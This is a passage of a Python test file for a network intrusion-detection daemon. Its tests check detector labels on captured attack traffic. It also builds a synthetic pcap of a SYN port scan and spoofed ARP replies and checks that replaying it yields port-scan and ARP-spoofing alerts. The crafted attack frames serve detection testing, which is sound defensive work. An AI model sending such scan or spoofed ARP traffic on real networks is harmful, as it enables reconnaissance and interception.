    assert (fc == C["DictionaryBruteForce"]).mean() >= 0.8
    assert {f.cls for f in findings} == {"DictionaryBruteForce"}


@needs_real
def test_real_other_attacks_are_not_web_brute_force_or_floods() -> None:
    skip = {"SqlInjection", "XSS", "Recon-VulnerabilityScan", "DictionaryBruteForce", "Backdoor_Malware"}
    files = [p for d in sorted((REAL / "attack").iterdir()) if d.name not in skip for p in sorted(d.iterdir())]
    assert len(files) >= 30
    for f in files:
        _, fc, _ = run(f)
        got = {DETECTOR_CLASSES[c] for c in np.unique(fc[fc >= 0])}
        assert not got & (NEW_CLASSES - FLOOD_CLASSES - {"Recon-OSScan"}), (f.name, got)
        assert "Recon-OSScan" not in got or f.parent.name == "Recon-OSScan", (f.name, got)
        assert not got & FLOOD_CLASSES or f.parent.name.endswith("Flood"), (f.name, got)


# ---- through the daemon ------------------------------------------------------------------------
def test_replay_publishes_detector_predictions(tmp_path: Path) -> None:
    pkts = syn_scan(0, range(1, 121)) + [arp_rep(1 + i, ATT_MAC, GW, VICTIM_MAC, VICTIM) for i in range(5)]
    pkts += [arp_req(7, GW_MAC, GW, VICTIM)]
    # a session between two other hosts: the model's to judge (every scan and ARP frame is claimed)
    pkts += tcp_conn(2.0, "10.0.0.40", "10.0.0.41", 40100, 8080, [b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"] * 3)
    pcap = write(tmp_path, "mix.pcap", sorted(pkts, key=lambda p: p.time))
    out = tmp_path / "out.jsonl"
    p = subprocess.run([EXE, "replay", "-r", str(pcap), "-o", str(out)], capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    recs = [json.loads(line) for line in out.read_text().splitlines() if line]
    schema = json_schema()
    for r in recs:
        jsonschema.validate(r, schema)
    det = [r for r in recs if r["model"]["name"].startswith("detector:")]
    assert {r["predicted_attack"] for r in det} == {"Recon-PortScan", "MITM-ArpSpoofing"}
    assert len(det) == 2  # one per (detector, attacker, victim, class): the rest is rate-limited
    assert len(recs) > len(det)  # the model's predictions are still there
    assert all(r["timestamp"] and r["interface"] is None for r in det)  # a file was seen by no interface
